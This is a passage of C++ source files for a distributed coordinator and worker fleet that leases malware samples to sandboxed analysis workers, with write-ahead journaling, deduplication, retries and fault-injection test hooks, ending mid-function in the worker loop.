  [[nodiscard]] Result<net::ClaimReply> Claim(
      const std::string& worker_id) const;
  [[nodiscard]] Result<net::RenewReply> Renew(const std::string& worker_id,
                                              uint64_t lease_id) const;
  // Fills in request.request_id when empty: a digest over (worker,
  // lease, sample) — stable across every retry of this one upload, so
  // the coordinator's dedup window absorbs a resend whose first reply
  // was torn.
  [[nodiscard]] Result<net::CompleteReply> Complete(
      net::CompleteRequest request) const;
  [[nodiscard]] Result<net::VerdictReply> Verdict(
      const net::VerdictRequest& request) const;
  [[nodiscard]] Result<net::FleetStatusReply> Stats() const;

  [[nodiscard]] Result<net::FleetReply> RoundTrip(
      const net::FleetRequest& request) const;

  // Chaos seam: runs after each request frame is sent, before the reply
  // is read — where the mid-upload SIGKILL tests detonate.
  void set_after_send_hook(std::function<void()> hook) {
    after_send_ = std::move(hook);
  }

 private:
  [[nodiscard]] Result<net::FleetReply> RoundTripJson(
      const std::string& json) const;

  std::string socket_path_;
  uint64_t deadline_ms_;
  net::RetryPolicy retry_;
  std::function<void()> after_send_;
};

}  // namespace autovac::fleet
