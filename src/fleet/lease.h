// Lease table: the exactly-once bookkeeping at the heart of the fleet
// coordinator.
//
// Each corpus sample moves through a three-state machine:
//
//     pending ──claim──▶ leased ──complete──▶ completed
//        ▲                  │
//        └────expire────────┘   (reassignment; the old lease id dies)
//
// A claim grants a lease: a fresh monotonically increasing id plus a
// validity window. Workers renew by heartbeat; a lease whose window
// elapses is *reaped* back to pending on the next claim, at which point
// (and only at which point) its id becomes stale. The distinction
// matters: a worker that merely missed a heartbeat but completes before
// anyone reclaims its sample is accepted (grace), while a zombie whose
// sample was reassigned is rejected — no sample is ever counted twice.
//
// Lease ids never restart from zero: a resumed coordinator seeds
// `first_lease_id` above the journal's max_lease_id, so an id issued by
// a dead incarnation can never collide with a live one.
//
// The table is clock-injected (milliseconds, monotonic) so expiry tests
// are deterministic, and does no locking of its own — the coordinator
// serializes access under its dispatch mutex.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

namespace autovac::fleet {

class LeaseTable {
 public:
  using Clock = std::function<uint64_t()>;  // monotonic milliseconds

  struct Options {
    uint64_t lease_ms = 5000;     // validity window per grant/renewal
    uint64_t first_lease_id = 1;  // resumed coordinators seed this higher
    Clock clock;                  // nullptr = steady_clock
  };

  LeaseTable(size_t samples, Options options);

  // Journal replay: marks `index` completed without ever leasing it.
  void MarkCompleted(size_t index);

  struct Grant {
    bool has_work = false;
    bool done = false;  // every sample completed
    size_t index = 0;
    uint64_t lease_id = 0;
    uint64_t lease_ms = 0;
  };

  // Reaps expired leases, then grants the lowest pending index to
  // `worker_id`. has_work=false with done=false means everything left is
  // leased out — the caller should poll again.
  [[nodiscard]] Grant Claim(const std::string& worker_id);

  // Heartbeat: extends the lease window. False when the lease id is not
  // live (expired + reassigned, unknown, or its sample completed).
  [[nodiscard]] bool Renew(uint64_t lease_id);

  enum class CompleteOutcome {
    kAccepted,   // live lease: count the report
    kDuplicate,  // sample already completed (benign retry or lost race)
    kStale,      // lease invalidated by reassignment: reject the report
  };

  // Resolves an upload for (`lease_id`, `index`). Accepts iff the lease
  // is the sample's *current* lease — expiry alone does not invalidate
  // it, reassignment does (see file comment).
  [[nodiscard]] CompleteOutcome Complete(uint64_t lease_id, size_t index);

  // True iff `lease_id` is live and currently covers `index` — the guard
  // that keeps zombie verdict telemetry out of the stream.
  [[nodiscard]] bool IsLive(uint64_t lease_id, size_t index) const;

  [[nodiscard]] size_t total() const { return slots_.size(); }
  [[nodiscard]] size_t completed() const { return completed_; }
  [[nodiscard]] bool done() const { return completed_ == slots_.size(); }
  [[nodiscard]] size_t leased() const;
  [[nodiscard]] uint64_t reassignments() const { return reassignments_; }
  [[nodiscard]] uint64_t stale_rejections() const {
    return stale_rejections_;
  }
  [[nodiscard]] uint64_t duplicates() const { return duplicates_; }
  [[nodiscard]] size_t workers_seen() const { return workers_.size(); }
  [[nodiscard]] uint64_t next_lease_id() const { return next_lease_id_; }

 private:
  enum class State : uint8_t { kPending, kLeased, kCompleted };

  struct Slot {
    State state = State::kPending;
    uint64_t lease_id = 0;      // current lease when kLeased
    uint64_t lease_expiry = 0;  // clock ms when the window elapses
    std::string worker_id;
  };

  [[nodiscard]] uint64_t Now() const;
  // Returns leased slots whose window elapsed to pending.
  void ReapExpired();

  std::vector<Slot> slots_;
  Options options_;
  uint64_t next_lease_id_;
  // lease id -> slot index, live leases only.
  std::unordered_map<uint64_t, size_t> slot_of_lease_;
  std::unordered_set<std::string> workers_;
  size_t completed_ = 0;
  uint64_t reassignments_ = 0;
  uint64_t stale_rejections_ = 0;
  uint64_t duplicates_ = 0;
};

}  // namespace autovac::fleet
