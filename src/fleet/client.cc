#include "fleet/client.h"

#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <utility>
#include <variant>

#include "support/digest.h"
#include "support/rng.h"
#include "support/strings.h"

namespace autovac::fleet {
namespace {

Status ErrorToStatus(const net::ErrorReply& error) {
  if (error.busy) {
    return Status::FailedPrecondition("fleet coordinator busy: " +
                                      error.message);
  }
  return Status::Internal(error.message);
}

uint64_t ElapsedMs(std::chrono::steady_clock::time_point start) {
  return static_cast<uint64_t>(
      std::chrono::duration_cast<std::chrono::milliseconds>(
          std::chrono::steady_clock::now() - start)
          .count());
}

}  // namespace

Result<net::FleetReply> FleetClient::RoundTripJson(
    const std::string& json) const {
  // Same retry discipline as VacdClient::RoundTripJson: deterministic
  // per-(seed, request) jitter, capped total budget, retry on BUSY and
  // on the transient transport outcomes.
  Rng jitter(retry_.seed ^ Fnv1a64(json));
  const auto start = std::chrono::steady_clock::now();
  for (uint32_t attempt = 1;; ++attempt) {
    Status last = Status::Ok();
    Result<std::string> raw =
        net::FrameRoundTrip(socket_path_, deadline_ms_, json, after_send_);
    if (raw.ok()) {
      Result<net::FleetReply> reply = net::ParseFleetReply(*raw);
      if (!reply.ok()) return reply;  // malformed reply: not transient
      const auto* error = std::get_if<net::ErrorReply>(&reply.value());
      if (error == nullptr || !error->busy) return reply;
      if (attempt >= retry_.max_attempts) return reply;  // busy, gave up
      last = ErrorToStatus(*error);
    } else {
      last = raw.status();
      if (!net::VacdClient::IsRetryable(last)) return last;
      if (attempt >= retry_.max_attempts) return last;
    }

    const uint64_t elapsed = ElapsedMs(start);
    if (elapsed >= retry_.max_total_ms) {
      return Status::DeadlineExceeded(StrFormat(
          "retry budget (%llu ms) exhausted after %u attempts; last: %s",
          static_cast<unsigned long long>(retry_.max_total_ms), attempt,
          last.ToString().c_str()));
    }
    const uint32_t shift = std::min<uint32_t>(attempt - 1, 20);
    uint64_t backoff =
        std::min(retry_.max_backoff_ms, retry_.initial_backoff_ms << shift);
    if (backoff == 0) backoff = 1;
    uint64_t sleep_ms = backoff / 2 + jitter.NextBelow(backoff / 2 + 1);
    sleep_ms = std::min(sleep_ms, retry_.max_total_ms - elapsed);
    if (sleep_ms > 0) {
      ::usleep(static_cast<useconds_t>(sleep_ms * 1000));
    }
  }
}

Result<net::FleetReply> FleetClient::RoundTrip(
    const net::FleetRequest& request) const {
  return RoundTripJson(net::FleetRequestToJson(request));
}

Result<net::ClaimReply> FleetClient::Claim(
    const std::string& worker_id) const {
  net::ClaimRequest request;
  request.worker_id = worker_id;
  AUTOVAC_ASSIGN_OR_RETURN(net::FleetReply reply,
                           RoundTrip(net::FleetRequest(std::move(request))));
  if (const auto* error = std::get_if<net::ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (auto* claim = std::get_if<net::ClaimReply>(&reply)) {
    return std::move(*claim);
  }
  return Status::Internal("unexpected reply kind for claim");
}

Result<net::RenewReply> FleetClient::Renew(const std::string& worker_id,
                                           uint64_t lease_id) const {
  net::RenewRequest request;
  request.worker_id = worker_id;
  request.lease_id = lease_id;
  AUTOVAC_ASSIGN_OR_RETURN(const net::FleetReply reply,
                           RoundTrip(net::FleetRequest(std::move(request))));
  if (const auto* error = std::get_if<net::ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* renew = std::get_if<net::RenewReply>(&reply)) {
    return *renew;
  }
  return Status::Internal("unexpected reply kind for renew");
}

Result<net::CompleteReply> FleetClient::Complete(
    net::CompleteRequest request) const {
  if (request.request_id.empty()) {
    // One id per logical upload: every retry of this (worker, lease,
    // sample) triple presents the same id; a re-analysis under a fresh
    // lease presents a new one (and is resolved by the already-done
    // duplicate path instead).
    request.request_id = HexDigest128(StrFormat(
        "fleet-complete|%s|%llu|%llu|%s", request.worker_id.c_str(),
        static_cast<unsigned long long>(request.lease_id),
        static_cast<unsigned long long>(request.sample_index),
        request.report.sample_digest.c_str()));
  }
  AUTOVAC_ASSIGN_OR_RETURN(const net::FleetReply reply,
                           RoundTrip(net::FleetRequest(std::move(request))));
  if (const auto* error = std::get_if<net::ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* complete = std::get_if<net::CompleteReply>(&reply)) {
    return *complete;
  }
  return Status::Internal("unexpected reply kind for complete");
}

Result<net::VerdictReply> FleetClient::Verdict(
    const net::VerdictRequest& request) const {
  AUTOVAC_ASSIGN_OR_RETURN(const net::FleetReply reply,
                           RoundTrip(net::FleetRequest(request)));
  if (const auto* error = std::get_if<net::ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* verdict = std::get_if<net::VerdictReply>(&reply)) {
    return *verdict;
  }
  return Status::Internal("unexpected reply kind for verdict");
}

Result<net::FleetStatusReply> FleetClient::Stats() const {
  AUTOVAC_ASSIGN_OR_RETURN(
      const net::FleetReply reply,
      RoundTrip(net::FleetRequest(net::FleetStatusRequest{})));
  if (const auto* error = std::get_if<net::ErrorReply>(&reply)) {
    return ErrorToStatus(*error);
  }
  if (const auto* status = std::get_if<net::FleetStatusReply>(&reply)) {
    return *status;
  }
  return Status::Internal("unexpected reply kind for fleet status");
}

}  // namespace autovac::fleet
