// Deterministic merge: per-sample reports (journal replay + live
// uploads) folded into the campaign artifact, with the exactly-once
// audit the chaos suite asserts.
//
// Determinism argument (DESIGN.md §12): each SampleReport is a pure
// function of (sample bytes, pipeline options, machine seed) — which
// worker produced it, after how many retries, is invisible in the
// report. The merge orders reports by corpus index and delegates to
// vaccine::BuildCampaignReport, so the merged CampaignReport serializes
// byte-identically to a fault-free single-host run for *any* failure
// schedule, provided every sample is present exactly once — which the
// lease table guarantees and this merge verifies.
#pragma once

#include <optional>
#include <vector>

#include "support/status.h"
#include "vaccine/pipeline.h"
#include "vm/program.h"

namespace autovac::fleet {

// Fails loudly (Internal) when a sample is missing, or when a report's
// digest does not match its corpus slot — either would mean the
// exactly-once bookkeeping let something through.
[[nodiscard]] Result<vaccine::CampaignReport> MergeFleetReports(
    std::vector<std::optional<vaccine::SampleReport>> reports,
    const std::vector<vm::Program>& samples);

}  // namespace autovac::fleet
