// Online verdict stream: a cheap resource-utilization profile scored
// *before* full vaccine analysis, after "Online Malware Detection using
// Process Resource Utilization Metrics" (PAPERS.md). A detonation worker
// runs the sample for a small cycle budget, summarizes its system-
// resource behaviour, and streams the verdict to the coordinator — so a
// fleet operator sees "suspicious" minutes before Phase II finishes.
//
// The verdict is deterministic (fixed machine seed, fixed budget) but
// deliberately advisory: it never enters the merged CampaignReport,
// whose bytes must stay identical to a fault-free run regardless of
// which workers streamed verdicts before dying.
#pragma once

#include <cstdint>

#include "net/fleet_protocol.h"
#include "vm/program.h"

namespace autovac::fleet {

struct VerdictOptions {
  uint64_t cycle_budget = 200000;  // a fraction of the Phase-I minute
  uint64_t machine_seed = 7;       // must match the pipeline's seed
  uint64_t max_api_calls = 400;    // hard cap; profile runs stay cheap
};

// Profiles `sample` in a fresh sandbox and fills the resource-metric
// fields of a VerdictRequest (worker/lease/index are the caller's).
// Suspicious = the sample touched system resources *and* its control
// flow depended on what it found there — the resource-probing signature
// the paper's classifier keys on.
[[nodiscard]] net::VerdictRequest ScoreSample(const vm::Program& sample,
                                              const VerdictOptions& options);

}  // namespace autovac::fleet
