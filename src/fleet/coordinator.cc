#include "fleet/coordinator.h"

#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <utility>
#include <variant>

#include "fleet/merge.h"
#include "net/frame.h"
#include "support/strings.h"

namespace autovac::fleet {
namespace {

void SetDeadline(int fd, uint64_t deadline_ms) {
  timeval tv;
  tv.tv_sec = static_cast<time_t>(deadline_ms / 1000);
  tv.tv_usec = static_cast<suseconds_t>((deadline_ms % 1000) * 1000);
  (void)::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

}  // namespace

FleetCoordinator::FleetCoordinator(std::vector<vm::Program> samples,
                                   vaccine::PipelineOptions pipeline_options,
                                   CoordinatorOptions options)
    : samples_(std::move(samples)),
      pipeline_options_(std::move(pipeline_options)),
      options_(std::move(options)) {
  if (options_.threads == 0) options_.threads = 1;
  sample_digests_.reserve(samples_.size());
  for (const vm::Program& sample : samples_) {
    sample_digests_.push_back(sample.Digest());
  }
  config_digest_ = campaign::CampaignConfigDigest(pipeline_options_, samples_,
                                                  options_.config_extra);
}

FleetCoordinator::~FleetCoordinator() { Stop(); }

Status FleetCoordinator::Start() {
  if (running_) {
    return Status::FailedPrecondition("coordinator already running");
  }
  if (options_.resume && options_.journal_path.empty()) {
    return Status::InvalidArgument("resume requires a journal path");
  }

  // --- Journal create/resume (the supervisor's discipline, shared) ------
  done_.assign(samples_.size(), std::nullopt);
  uint64_t first_lease_id = 1;
  if (!options_.journal_path.empty()) {
    const campaign::JournalHeader header = campaign::MakeJournalHeader(
        pipeline_options_, samples_, options_.config_extra);
    if (options_.resume) {
      AUTOVAC_ASSIGN_OR_RETURN(
          campaign::CampaignJournal::Replay replay,
          campaign::CampaignJournal::Load(options_.journal_path,
                                          samples_.size()));
      if (replay.header.config_digest != header.config_digest) {
        return Status::FailedPrecondition(StrFormat(
            "journal %s belongs to a different campaign "
            "(config digest %s, expected %s); refusing to resume",
            options_.journal_path.c_str(),
            replay.header.config_digest.c_str(),
            header.config_digest.c_str()));
      }
      done_ = std::move(replay.reports);
      stats_.resumed_completed = replay.completed;
      stats_.resumed_max_lease = replay.max_lease_id;
      // Strictly above every id the dead incarnation ever journaled: a
      // zombie holding a pre-crash lease can never present a live id.
      first_lease_id = replay.max_lease_id + 1;
      AUTOVAC_ASSIGN_OR_RETURN(
          journal_,
          campaign::CampaignJournal::OpenAppend(options_.journal_path));
    } else {
      AUTOVAC_ASSIGN_OR_RETURN(journal_, campaign::CampaignJournal::Create(
                                             options_.journal_path, header));
    }
  }

  LeaseTable::Options lease_options;
  lease_options.lease_ms = options_.lease_ms;
  lease_options.first_lease_id = first_lease_id;
  lease_options.clock = options_.clock;
  leases_ = std::make_unique<LeaseTable>(samples_.size(), lease_options);
  for (size_t i = 0; i < done_.size(); ++i) {
    if (done_[i].has_value()) leases_->MarkCompleted(i);
  }

  if (!options_.store_path.empty()) {
    AUTOVAC_ASSIGN_OR_RETURN(store_,
                             vacstore::VaccineStore::Open(options_.store_path));
    ingest_ = true;
  }

  // --- Socket setup (the vacd server shape) -----------------------------
  sockaddr_un addr{};
  if (options_.socket_path.size() >= sizeof(addr.sun_path)) {
    return Status::InvalidArgument(
        StrFormat("socket path too long: %s", options_.socket_path.c_str()));
  }
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, options_.socket_path.c_str(),
              options_.socket_path.size() + 1);
  (void)::unlink(options_.socket_path.c_str());

  listen_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    return Status::Internal(
        StrFormat("socket failed: %s", std::strerror(errno)));
  }
  if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Internal(StrFormat("bind %s failed: %s",
                                      options_.socket_path.c_str(),
                                      std::strerror(err)));
  }
  const int backlog = static_cast<int>(
      options_.max_pending < 1 ? 1
      : options_.max_pending > 128 ? 128
                                   : options_.max_pending);
  if (::listen(listen_fd_, backlog) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    (void)::unlink(options_.socket_path.c_str());
    return Status::Internal(
        StrFormat("listen failed: %s", std::strerror(err)));
  }
  if (::pipe(stop_pipe_) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    (void)::unlink(options_.socket_path.c_str());
    return Status::Internal(
        StrFormat("pipe failed: %s", std::strerror(err)));
  }

  pool_ = std::make_unique<ThreadPool>(options_.threads);
  accept_thread_ = std::thread(&FleetCoordinator::AcceptLoop, this);
  running_ = true;
  return Status::Ok();
}

void FleetCoordinator::Stop() {
  if (!running_) return;
  const char stop = 'x';
  while (::write(stop_pipe_[1], &stop, 1) < 0 && errno == EINTR) {
  }
  accept_thread_.join();
  pool_.reset();  // drains queued connections, joins workers
  if (ingest_) (void)store_.Flush();
  ::close(listen_fd_);
  listen_fd_ = -1;
  ::close(stop_pipe_[0]);
  ::close(stop_pipe_[1]);
  stop_pipe_[0] = stop_pipe_[1] = -1;
  (void)::unlink(options_.socket_path.c_str());
  running_ = false;
}

Status FleetCoordinator::WaitUntilDone(uint64_t timeout_ms) {
  std::unique_lock lock(mutex_);
  const auto settled = [this] { return leases_->done() || !fatal_.ok(); };
  if (timeout_ms == 0) {
    done_cv_.wait(lock, settled);
  } else if (!done_cv_.wait_for(lock, std::chrono::milliseconds(timeout_ms),
                                settled)) {
    return Status::DeadlineExceeded(StrFormat(
        "campaign incomplete after %llu ms: %zu of %zu samples done",
        static_cast<unsigned long long>(timeout_ms), leases_->completed(),
        leases_->total()));
  }
  return fatal_;
}

Result<vaccine::CampaignReport> FleetCoordinator::Report() const {
  std::lock_guard lock(mutex_);
  AUTOVAC_RETURN_IF_ERROR(fatal_);
  // MergeFleetReports audits completeness and digests; done_ is copied so
  // the coordinator can keep serving status after the report is taken.
  return MergeFleetReports(done_, samples_);
}

net::FleetStatusReply FleetCoordinator::Progress() const {
  std::lock_guard lock(mutex_);
  return ProgressLocked();
}

net::FleetStatusReply FleetCoordinator::ProgressLocked() const {
  net::FleetStatusReply reply;
  reply.total = leases_->total();
  reply.completed = leases_->completed();
  reply.leased = leases_->leased();
  reply.reassigned = leases_->reassignments();
  reply.stale_rejected = leases_->stale_rejections();
  reply.duplicates = leases_->duplicates();
  reply.workers = leases_->workers_seen();
  reply.verdicts = stats_.verdicts;
  reply.suspicious = stats_.suspicious;
  reply.done = leases_->done();
  return reply;
}

CoordinatorStats FleetCoordinator::Stats() const {
  std::lock_guard lock(mutex_);
  return stats_;
}

void FleetCoordinator::AcceptLoop() {
  while (true) {
    pollfd fds[2];
    fds[0] = {stop_pipe_[0], POLLIN, 0};
    fds[1] = {listen_fd_, POLLIN, 0};
    const int ready = ::poll(fds, 2, -1);
    if (ready < 0) {
      if (errno == EINTR) continue;
      return;
    }
    if (fds[0].revents != 0) return;  // stop requested
    if ((fds[1].revents & POLLIN) == 0) continue;
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) continue;
    SetDeadline(fd, options_.deadline_ms);
    if (pending_.load(std::memory_order_relaxed) >= options_.max_pending) {
      (void)net::WriteNetFrame(
          fd, net::FleetReplyToJson(
                  net::ErrorReply{true, "coordinator overloaded"}));
      ::close(fd);
      continue;
    }
    pending_.fetch_add(1, std::memory_order_relaxed);
    pool_->Submit([this, fd] { ServeConnection(fd); });
  }
}

void FleetCoordinator::ServeConnection(int fd) {
  Result<std::string> payload = net::ReadNetFrame(fd);
  bool answer = true;
  net::FleetReply reply = net::ErrorReply{};
  if (!payload.ok()) {
    // A clean hang-up (client connected and left) gets no reply.
    answer = payload.status().code() != StatusCode::kNotFound;
    reply = net::ErrorReply{false, payload.status().ToString()};
  } else {
    Result<net::FleetRequest> request = net::ParseFleetRequest(*payload);
    if (!request.ok()) {
      reply = net::ErrorReply{false, request.status().ToString()};
    } else {
      reply = Dispatch(*request);
    }
  }
  if (answer) {
    (void)net::WriteNetFrame(fd, net::FleetReplyToJson(reply));
  }
  ::close(fd);
  pending_.fetch_sub(1, std::memory_order_relaxed);
}

net::FleetReply FleetCoordinator::Dispatch(const net::FleetRequest& request) {
  requests_served_.fetch_add(1, std::memory_order_relaxed);
  if (const auto* claim = std::get_if<net::ClaimRequest>(&request)) {
    return HandleClaim(*claim);
  }
  if (const auto* renew = std::get_if<net::RenewRequest>(&request)) {
    std::lock_guard lock(mutex_);
    net::RenewReply reply;
    reply.renewed = leases_->Renew(renew->lease_id);
    reply.lease_ms = options_.lease_ms;
    return reply;
  }
  if (const auto* complete = std::get_if<net::CompleteRequest>(&request)) {
    return HandleComplete(*complete);
  }
  if (const auto* verdict = std::get_if<net::VerdictRequest>(&request)) {
    std::lock_guard lock(mutex_);
    net::VerdictReply reply;
    // Zombie telemetry is discarded with the same lease test as uploads,
    // so a reassigned sample is never scored twice in the stream.
    reply.accepted = leases_->IsLive(verdict->lease_id, verdict->sample_index);
    if (reply.accepted) {
      ++stats_.verdicts;
      if (verdict->suspicious) ++stats_.suspicious;
    }
    return reply;
  }
  std::lock_guard lock(mutex_);
  return ProgressLocked();
}

net::FleetReply FleetCoordinator::HandleClaim(const net::ClaimRequest& claim) {
  std::lock_guard lock(mutex_);
  if (!fatal_.ok()) return net::ErrorReply{false, fatal_.ToString()};
  const LeaseTable::Grant grant = leases_->Claim(claim.worker_id);
  net::ClaimReply reply;
  reply.done = grant.done;
  if (!grant.has_work) return reply;

  // Write-ahead: the assignment is durable before the worker ever hears
  // about it, so the resumed coordinator's lease-id floor (max_lease_id)
  // covers every id any worker may be holding.
  if (journal_.open()) {
    const Status appended = journal_.AppendAssignment(
        grant.index, claim.worker_id, grant.lease_id);
    if (!appended.ok()) {
      fatal_ = appended;
      done_cv_.notify_all();
      return net::ErrorReply{false, fatal_.ToString()};
    }
    ++assignments_journaled_;
    if (options_.crash_after_assignments > 0 &&
        assignments_journaled_ >= options_.crash_after_assignments) {
      // Chaos hook: die exactly between journaling the assignment and
      // acknowledging it — the worker never learns its lease id, the
      // journal carries an assignment with no report, and resume must
      // reissue the sample.
      (void)::raise(SIGKILL);
    }
  }

  reply.has_work = true;
  reply.sample_index = grant.index;
  reply.sample_name = samples_[grant.index].name;
  reply.sample_digest = sample_digests_[grant.index];
  reply.lease_id = grant.lease_id;
  reply.lease_ms = grant.lease_ms;
  reply.config_digest = config_digest_;
  return reply;
}

net::FleetReply FleetCoordinator::HandleComplete(
    const net::CompleteRequest& complete) {
  std::lock_guard lock(mutex_);
  if (!fatal_.ok()) return net::ErrorReply{false, fatal_.ToString()};

  const bool dedup =
      !complete.request_id.empty() && options_.dedup_window > 0;
  if (dedup) {
    // A retried upload whose first application succeeded but whose reply
    // was lost: answer with the recorded reply, apply nothing twice.
    const auto hit = dedup_replies_.find(complete.request_id);
    if (hit != dedup_replies_.end()) {
      ++stats_.dedup_hits;
      net::CompleteReply replay = hit->second;
      // campaign_done reflects *current* state, not the state when the
      // reply was recorded — a retry of the final upload must still let
      // the worker exit.
      replay.campaign_done = leases_->done();
      return replay;
    }
  }

  const size_t index = static_cast<size_t>(complete.sample_index);
  if (index < sample_digests_.size() &&
      complete.report.sample_digest != sample_digests_[index]) {
    return net::ErrorReply{
        false, StrFormat("report digest %s does not match sample %zu "
                         "(expected %s); is the worker's corpus stale?",
                         complete.report.sample_digest.c_str(), index,
                         sample_digests_[index].c_str())};
  }

  net::CompleteReply reply;
  switch (leases_->Complete(complete.lease_id, index)) {
    case LeaseTable::CompleteOutcome::kStale:
      reply.stale = true;
      break;
    case LeaseTable::CompleteOutcome::kDuplicate:
      reply.duplicate = true;
      break;
    case LeaseTable::CompleteOutcome::kAccepted: {
      // Write-ahead: journal (fsync) before acknowledging, so a report
      // the worker saw accepted can never be lost to a coordinator kill.
      if (journal_.open()) {
        const Status appended = journal_.Append(index, complete.report);
        if (!appended.ok()) {
          fatal_ = appended;
          done_cv_.notify_all();
          return net::ErrorReply{false, fatal_.ToString()};
        }
      }
      done_[index] = complete.report;
      if (ingest_ && !complete.report.vaccines.empty()) {
        // Streaming immunization: extracted vaccines become pullable the
        // moment their sample completes. Store trouble is not allowed to
        // fail the campaign — the journal already holds the report.
        Result<vacstore::PushStats> pushed =
            store_.Push(complete.report.vaccines);
        if (pushed.ok()) {
          stats_.ingested += pushed->added;
        } else {
          ++stats_.ingest_failures;
        }
      }
      reply.accepted = true;
      break;
    }
  }

  reply.campaign_done = leases_->done();
  if (dedup) {
    // Record only after the accepted path is durable, so a dedup hit
    // never vouches for a report the journal does not hold.
    dedup_order_.push_back(complete.request_id);
    dedup_replies_[complete.request_id] = reply;
    while (dedup_order_.size() > options_.dedup_window) {
      dedup_replies_.erase(dedup_order_.front());
      dedup_order_.pop_front();
    }
  }
  if (leases_->done()) done_cv_.notify_all();
  return reply;
}

}  // namespace autovac::fleet
