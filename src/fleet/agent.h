// Fleet worker agent: the claim → analyze → upload loop one detonation
// worker runs against a coordinator.
//
// The agent holds its own copy of the corpus (out-of-band distribution;
// same generator seed or shared storage) and verifies every claim twice
// before burning cycles on it: the campaign config digest — a worker
// configured differently could never merge byte-identically — and the
// sample content digest — a stale corpus copy analyzes the wrong bytes.
// Either mismatch is a refused claim, not a silent wrong answer.
//
// While a sample is analyzing, a heartbeat thread renews the lease at a
// third of its window. A worker that stalls past the window without
// renewing loses the sample to reassignment; if it then finishes anyway,
// its upload is rejected stale and simply not counted — the agent moves
// on to the next claim.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <vector>

#include "fleet/client.h"
#include "fleet/verdict.h"
#include "net/client.h"
#include "support/status.h"
#include "vaccine/pipeline.h"
#include "vm/program.h"

namespace autovac::fleet {

struct WorkerOptions {
  std::string socket_path;
  std::string worker_id = "worker";
  uint64_t deadline_ms = 5000;
  net::RetryPolicy retry;
  // Must match the coordinator's config_extra or every claim is refused.
  std::string config_extra;
  // Emit the advisory online-verdict stream before full analysis.
  bool verdicts = false;
  VerdictOptions verdict_options;
  // Poll cadence while every remaining sample is leased elsewhere, and
  // how long to keep polling before giving up (0 = forever).
  uint64_t idle_poll_ms = 50;
  uint64_t max_idle_ms = 60000;
  // Chaos hooks, both SIGKILL-this-process:
  // ... right after the n-th successful claim — the "worker mid-sample"
  // death: a lease is held, nothing was uploaded. 0 disables.
  size_t kill_after_claims = 0;
  // ... after the complete frame is sent, before its reply is read — the
  // "worker mid-upload" death: the coordinator may have applied the
  // report whose acknowledgement nobody will ever read.
  bool kill_mid_upload = false;
};

struct WorkerStats {
  size_t claimed = 0;     // samples this worker analyzed
  size_t completed = 0;   // uploads accepted
  size_t stale = 0;       // uploads rejected (our lease was reassigned)
  size_t duplicates = 0;  // uploads for already-done samples
  size_t verdicts = 0;    // verdict-stream records accepted
};

// Runs the claim loop until the coordinator reports the campaign done
// (Ok), a claim is unacceptable (FailedPrecondition), the idle budget
// elapses, or the coordinator becomes unreachable past the retry budget.
[[nodiscard]] Result<WorkerStats> RunWorker(
    const vaccine::VaccinePipeline& pipeline,
    const std::vector<vm::Program>& corpus, const WorkerOptions& options);

}  // namespace autovac::fleet
