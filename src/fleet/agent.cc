#include "fleet/agent.h"

#include <signal.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <condition_variable>
#include <mutex>
#include <thread>
#include <utility>

#include "campaign/journal.h"
#include "support/strings.h"

namespace autovac::fleet {
namespace {

// Renews one lease at a third of its window until told to stop. Renewal
// failures are deliberately not fatal: the lease may already be renewed
// with plenty of window left, and a genuinely stale lease surfaces as a
// rejected upload — the loop's job is only to keep a *healthy* worker's
// lease alive.
class Heartbeat {
 public:
  Heartbeat(const FleetClient& client, std::string worker_id,
            uint64_t lease_id, uint64_t lease_ms)
      : client_(client),
        worker_id_(std::move(worker_id)),
        lease_id_(lease_id),
        interval_ms_(std::max<uint64_t>(1, lease_ms / 3)) {
    thread_ = std::thread(&Heartbeat::Loop, this);
  }

  ~Heartbeat() {
    {
      std::lock_guard lock(mutex_);
      stop_ = true;
    }
    cv_.notify_all();
    thread_.join();
  }

 private:
  void Loop() {
    std::unique_lock lock(mutex_);
    while (!stop_) {
      if (cv_.wait_for(lock, std::chrono::milliseconds(interval_ms_),
                       [this] { return stop_; })) {
        return;
      }
      lock.unlock();
      (void)client_.Renew(worker_id_, lease_id_);
      lock.lock();
    }
  }

  const FleetClient& client_;
  const std::string worker_id_;
  const uint64_t lease_id_;
  const uint64_t interval_ms_;
  std::mutex mutex_;
  std::condition_variable cv_;
  bool stop_ = false;
  std::thread thread_;
};

}  // namespace

Result<WorkerStats> RunWorker(const vaccine::VaccinePipeline& pipeline,
                              const std::vector<vm::Program>& corpus,
                              const WorkerOptions& options) {
  FleetClient client(options.socket_path, options.deadline_ms, options.retry);
  // Uploads go through a second client carrying the mid-upload chaos
  // hook, so claims and heartbeats are never the ones that detonate.
  FleetClient uploader(options.socket_path, options.deadline_ms,
                       options.retry);
  if (options.kill_mid_upload) {
    uploader.set_after_send_hook([] { (void)::raise(SIGKILL); });
  }

  const std::string expected_config = campaign::CampaignConfigDigest(
      pipeline.options(), corpus, options.config_extra);

  WorkerStats stats;
  uint64_t idle_ms = 0;
  while (true) {
    AUTOVAC_ASSIGN_OR_RETURN(const net::ClaimReply claim,
                             client.Claim(options.worker_id));
    if (claim.done) return stats;
    if (!claim.has_work) {
      // Everything left is leased elsewhere; an expired lease may come
      // back to the queue, so poll — but not forever.
